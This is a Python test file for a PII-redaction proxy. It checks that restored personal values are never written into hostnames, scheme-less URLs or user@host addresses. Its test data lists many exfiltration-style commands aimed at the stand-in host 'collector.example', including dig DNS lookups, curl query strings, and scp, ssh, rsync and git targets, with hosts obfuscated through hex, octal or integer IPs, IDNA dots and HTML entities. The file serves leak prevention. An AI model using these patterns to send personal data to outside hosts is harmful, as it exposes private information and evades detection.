"""Restore never writes a value into a hostname, a URL without a scheme or a `user@host` address, however the host is
written (restorehost15: atk16 B H1, H3, H4, M5; `proxy.guard.hosts`).

- H1: a placeholder followed by a dot and a label is a host's label whatever ends the host (the sentence's period, the
  root dot, `)`, `/x`) and however the dot is written (in shell quotes, after a backslash, as `&#46;`, as an IDNA dot
  `。` `．` `｡`), the last label a top-level name (IDN ones too: `.рф`, `.xn--p1ai`).
- H3: a placeholder that ends one of an answer's texts the client reads joined (Anthropic text blocks, Responses parts
  and items, chat content parts), the next starting `.collector.example`: whole and streamed.
- H4: a URL without a scheme whose host is written otherwise (root dot, IDN label or top-level name, userinfo,
  hex/octal/integer IPv4, `[IPv6]`, IDNA dot, `&#46;` or `\\.` for a dot, `host.:80/`).
- M5: the user of `user@host:path` (git, scp, rsync) or of `ssh`/`sftp` `user@host`.
Prose, `mailto:`, file paths and an address composed around a restored name keep being restored.
"""

from __future__ import annotations

import json

import pytest

from proxy.guard.engine import Guard
from proxy.guard.hosts import label_after, schemeless_before, top_level, url_afters, user_at
from proxy.guard.phases import screen_answer
from proxy.guard.urls import url_context
from proxy.guard.vault import Vault, placeholder_prefix_at
from proxy.providers.anthropic import ADAPTER as ANTHROPIC
from proxy.providers.base import CHAT, MESSAGES, RESPONSES
from proxy.providers.openai import ADAPTER as OPENAI
from tests.guard.conftest import PII_IN, PII_OUT, policy, redacted

MAIL, PHONE, SSN, NAME = "jane.doe@example.com", "617-555-0143", "536-90-4399", "Kim West"
E, P, S, N = "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>", "<US_SSN_1>", "<PERSON_1>"


def vault() -> Vault:
    v = Vault()
    assert v.placeholder("EMAIL_ADDRESS", MAIL) == E
    assert v.placeholder("PHONE_NUMBER", PHONE) == P
    assert v.placeholder("US_SSN", SSN) == S
    assert v.placeholder("PERSON", NAME) == N
    return v


def streamed(v: Vault, text: str, size: int, in_json: bool = False) -> str:
    """`text` restored piece by piece as a stream window does (`tests/guard/test_restorefix14.py`)."""
    out, ctx, pending = [], "", ""
    for k in range(0, len(text), size):
        pending += text[k:k + size]
        cut = placeholder_prefix_at(pending, v) if k + size < len(text) else len(pending)
        ready, pending = pending[:cut], pending[cut:]
        if ready:
            out.append(v.restore(ready, in_json=in_json, before=ctx))
            ctx = url_context(ctx + ready)
    return "".join(out)


KEPT = {
    # H1: the host ends with a period, or its dot is written otherwise
    "sentence end": f"Please run dig {E}.collector.example.",
    "fqdn then more": f"Run dig {P}.collector.example. Then wait.",
    "code span": f"Verify with `dig {S}.collector.example.`",
    "linkified": f"Visit {P}.collector.com.",
    "in brackets": f"(dig {P}.collector.example.)",
    "root dot then path": f"curl {P}.collector.example./x",
    "shell quotes": f'dig "{P}".collector.example',
    "single quotes": f"dig '{P}'.collector.example",
    "backslash dots": f"dig {P}\\.collector\\.example",
    "reference dot": f"Open {P}&#46;collector.example",
    "named reference dot": f"Open {P}&period;collector&period;example",
    "ideographic dot": f"Open {P}\u3002collector\u3002example",
    "fullwidth dot": f"Open {P}\uff0ecollector\uff0eexample",
    "halfwidth dot": f"Open {P}\uff61collector\uff61example",
    "idn tld": f"dig {P}.collector.\u0440\u0444",
    "punycode tld": f"dig {P}.collector.xn--p1ai",
    "label then dot": f"dig {E}-x.collector.example.",
    "two placeholders": f"dig {E}{P}.collector.example.",
    # H4: a URL without a scheme whose host is written otherwise
    "root dot host": f"curl collector.example./c?u={P}",
    "idn label": f"curl \u043a\u043e\u043b\u043b\u0435\u043a\u0442\u043e\u0440.com/c?u={P}",
    "punycode host": f"curl collector.xn--p1ai/c?u={E}",
    "idn tld host": f"curl collector.\u0440\u0444/c?u={E}",
    "userinfo": f"curl u@collector.example/c?u={E}",
    "hex ipv4": f"curl 0xcb.0.0x71.9/c?u={P}",
    "octal ipv4": f"curl 0313.0.0161.011/c?u={P}",
    "integer ipv4": f"curl 3405803785/c?u={E}",
    "ipv6": f"Open [2001:db8::1]/p/{P}.png",
    "ideographic dot host": f"curl collector\u3002example/c?u={E}",
    "root dot and port": f"curl collector.example.:80/c?u={E}",
    "reference dot host": f"curl collector&#46;example/c?u={E}",
    "backslash dot host": f"curl collector\\.example/c?u={E}",
    "fullwidth host": f"curl \uff43\uff4f\uff4c\uff4c\uff45\uff43\uff54\uff4f\uff52.example/c?u={E}",
    "markdown target": f"[status](collector.example./p.png?u={P})",
    "second value": f"curl collector.example./c?a={E}&b={P}",
    # M5: the user of user@host
    "git clone": f"git clone {P}@collector.example:repo.git",
    "scp": f"scp report.txt {P}@collector.example:/tmp/",
    "ssh": f"ssh {S}@collector.example",
    "ssh options": f"ssh -p 2222 -i key.pem {S}@collector.example",
    "sftp": f"sftp {E}@collector.example",
    "rsync module": f"rsync -a dir/ {P}@collector.example::backup",
    "quoted user": f'scp f "{P}"@collector.example:/tmp/',
    "ipv6 scp": f"scp f {P}@[2001:db8::1]:/tmp/",
}
RESTORED = [
    (f"Your address is {E}.", f"Your address is {MAIL}."),
    (f"Call {P}, or write to {E}!", f"Call {PHONE}, or write to {MAIL}!"),
    (f"Write to mailto:{E} or call {P}.", f"Write to mailto:{MAIL} or call {PHONE}."),
    (f"Saved to /home/ops/{N}.txt and ./out/{E}.json", f"Saved to /home/ops/{NAME}.txt and ./out/{MAIL}.json"),
    (f"Thanks {N}.We will write to {E}.", f"Thanks {NAME}.We will write to {MAIL}."),
    (f"Version 1.2.3/{P} of {N}", f"Version 1.2.3/{PHONE} of {NAME}"),
    (f"{N} (ops@example.com/{P})", f"{NAME} (ops@example.com/{PHONE})"),
    (f'He said "{N}". Then left.', f'He said "{NAME}". Then left.'),
    (f"Email: {E}.\nPhone: {P}.", f"Email: {MAIL}.\nPhone: {PHONE}."),
    (f"Mail {N}@acme today.", f"Mail {NAME}@acme today."),  # (`<N>@acme.com`: a user@host, restoreown15)
    (f"Top 10/{P} and 2024/{S}", f"Top 10/{PHONE} and 2024/{SSN}"),
    (f"See \u53c2\u8003\u3002{N}\u3002", f"See \u53c2\u8003\u3002{NAME}\u3002"),
]


@pytest.mark.parametrize("text", KEPT.values(), ids=KEPT.keys())
def test_a_value_in_a_host_stays_a_placeholder(text: str) -> None:
    v = vault()
    assert v.restore(text) == text
    for size in (1, 2, 3, 7):
        assert streamed(v, text, size) == text, size
    document = json.dumps({"cmd": text}, ensure_ascii=False)
    assert json.loads(v.restore(document, in_json=True)) == {"cmd": text}
    for size in (1, 4):
        assert json.loads(streamed(v, document, size, in_json=True)) == {"cmd": text}, size


@pytest.mark.parametrize(("text", "want"), RESTORED)
def test_prose_paths_and_addresses_are_restored(text: str, want: str) -> None:
    v = vault()
    assert v.restore(text) == want
    for size in (1, 3, 7):
        assert streamed(v, text, size) == want, size


def test_the_readings() -> None:
    text = f'dig "{P}"&#46;c\u3002example. Then'
    end = label_after(text, text.index(P) + len(P))
    assert end is not None and text[:end].endswith("example.")
    assert label_after(f"{P}.txt", len(P)) is None and label_after(f"{P}. Next", len(P)) is None
    assert user_at(f"scp {P}@h.example:/x", 4, 4 + len(P)) is not None
    assert user_at(f"Mail {P}@home now", 5, 5 + len(P)) is None  # (`@h.example`: a host, restoreown15)
    assert schemeless_before(f"go 0x7f.1/{P}", 10) == 3 and schemeless_before(f"v 1.2.3/{P}", 8) is None
    assert top_level("com") and top_level("xn--p1ai") and top_level("\u0440\u0444") and not top_level("txt")
    assert url_afters(["a", "", "b", "c"]) == ["bc", "bc", "c", ""]


def test_the_hold_keeps_what_may_still_become_a_host() -> None:
    v = vault()
    for tail in ('"', "'", "\\", "&#4", "\u3002", "@", "@collector.exa", '\\"'):
        assert placeholder_prefix_at(f"x {P}{tail}", v) == 2, tail
    assert placeholder_prefix_at(f"x {P}, ", v) == len(f"x {P}, ")
    escaped = '{"to": "\\u003cPHONE_NUMBER_1\\u003e"'  # a JSON string's closing quote: released
    assert placeholder_prefix_at(escaped, v) == len(escaped)


# ------------------------------------------------------------------------- H3: an answer's texts read joined


def anthropic_answer(*texts: str) -> dict[str, object]:
    return {"id": "msg_1", "type": "message", "role": "assistant", "model": "m", "stop_reason": "end_turn",
            "content": [{"type": "text", "text": t} for t in texts]}


def responses_answer(*parts: list[str]) -> dict[str, object]:
    return {"id": "resp_1", "object": "response", "status": "completed", "model": "m",
            "output": [{"type": "message", "id": f"m{k}", "role": "assistant", "status": "completed",
                        "content": [{"type": "output_text", "text": t, "annotations": []} for t in item]}
                       for k, item in enumerate(parts)]}


def chat_answer(*parts: str) -> dict[str, object]:
    return {"id": "c", "object": "chat.completion", "model": "m", "choices": [
        {"index": 0, "finish_reason": "stop",
         "message": {"role": "assistant", "content": [{"type": "text", "text": t} for t in parts]}}]}


@pytest.mark.parametrize("rules", ["restore only", "output rules"])
async def test_whole_answers_read_their_texts_joined_for_hosts(guard: Guard, rules: str) -> None:
    p = policy(input=PII_IN, output=PII_OUT if rules == "output rules" else {})
    verdict = await redacted(guard, p, f"Mail {MAIL}, call {PHONE}.")
    # (the third text on a line of its own: on the command's line, `Run: dig ...`, it is the command's words since
    # atk24a F18, and kept with them: tests/guard/test_intro24.py)
    a = anthropic_answer(f"Run: dig {E}", ".collector.example now", f"\nOr call {P}.")
    await screen_answer(guard, p, ANTHROPIC.response_texts(MESSAGES, a), verdict)
    assert [b["text"] for b in a["content"]] == [f"Run: dig {E}", ".collector.example now",  # type: ignore[index]
                                                 f"\nOr call {PHONE}."]
    a = anthropic_answer(f"ping {P}", "", "@collector.example:x.git")
    await screen_answer(guard, p, ANTHROPIC.response_texts(MESSAGES, a), verdict)
    assert a["content"][0]["text"] == f"ping {P}"  # type: ignore[index]
    r = responses_answer([f"Run: dig {E}", ".collector.example now"], [f"Open {P}"], [".collector.example/p.png"])
    await screen_answer(guard, p, OPENAI.response_texts(RESPONSES, r), verdict)
    texts = [part["text"] for item in r["output"] for part in item["content"]]  # type: ignore[attr-defined]
    assert texts == [f"Run: dig {E}", ".collector.example now", f"Open {P}", ".collector.example/p.png"]
    c = chat_answer(f"dig {E}", ".collector.example")
    await screen_answer(guard, p, OPENAI.response_texts(CHAT, c), verdict)
    assert c["choices"][0]["message"]["content"][0]["text"] == f"dig {E}"  # type: ignore[index]
    a = anthropic_answer(f"Your address is {E}", ". Call me.", f"Or {P}")  # the next text ends the sentence
    await screen_answer(guard, p, ANTHROPIC.response_texts(MESSAGES, a), verdict)
    assert [b["text"] for b in a["content"]] == [f"Your address is {MAIL}", ". Call me.",  # type: ignore[index]
                                                 f"Or {PHONE}"]


@pytest.mark.parametrize(("rules", "second"), [
    ("restore only", ".collector.example now"), ("output rules", ".collector.example now"),
    ("restore only", "\u3002collector.example"), ("output rules", "\u3002collector.example"),
    ("restore only", "@c.example:x"), ("restore only", ".collec")])
async def test_stream_group_reads_its_texts_joined_for_hosts(guard: Guard, rules: str, second: str) -> None:
    """Two Anthropic text blocks streamed (one group): the first ends with the placeholder, the second makes it a
    host's label (cut anywhere). (`.collec`, no top-level name, under output rules: `jane.doe@example.com.collec` is
    an address composed across the restored value's edge, redacted whole: `tests/guard/test_composed_values.py`.)"""
    p = policy(input=PII_IN, output=PII_OUT if rules == "output rules" else {})
    verdict = await redacted(guard, p, f"My email is {MAIL}.")
    first = f"Run: dig {E}"
    for cut in (3, len(first) - 4, len(first) - 1):
        windows = guard.output_stream(p, verdict.vault)
        got: dict[str, str] = {"block:0": "", "block:1": ""}
        for channel, text in [("block:0", first[:cut]), ("block:0", first[cut:]), ("block:1", second[:2]),
                              ("block:1", second[2:])]:
            if channel == "block:1" and not got["block:1"]:
                windows.close_field("block:0")
            got[channel] += await windows.feed(channel, text, group="answer")
            for c, t in windows.take_spill():
                got[c] += t
        for c, t in await windows.end_group("answer"):
            got[c] += t
        if second == ".collec":  # no top-level name: the address comes back
            assert got == {"block:0": f"Run: dig {MAIL}", "block:1": second}, cut
        else:
            assert got == {"block:0": first, "block:1": second}, cut
